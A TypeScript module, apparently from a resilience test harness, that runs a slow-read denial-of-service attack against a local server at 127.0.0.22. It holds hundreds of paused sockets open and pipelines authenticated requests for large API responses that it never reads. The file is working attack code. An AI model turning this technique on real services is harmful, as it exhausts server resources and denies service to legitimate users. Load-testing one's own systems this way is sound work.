import { type Attack, open, rest } from './attackTools.ts'

const atOnce = 150
const everyMs = 200

/** Requests large answers and does not read them. */
export async function readSlowly(attack: Attack): Promise<void> {
  const { random, tally, over, heavy } = attack
  const paths = ['/api/openapi.json', '/api/site_lists', '/api/turbine_infos']
  const waiting = new Set<ReturnType<typeof open>>()
  while (!over.aborted) {
    const socket = open(attack, '127.0.0.22').pause()
    waiting.add(socket)
    socket.once('close', () => waiting.delete(socket))
    const request = `GET ${random.pick(paths)} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${heavy.key}\r\n\r\n`
    socket.write(request.repeat(8))
    tally.count('readers that do not read')
    if (waiting.size > atOnce) [...waiting][0]?.destroy()
    await rest(everyMs, over)
  }
  for (const socket of waiting) socket.destroy()
}
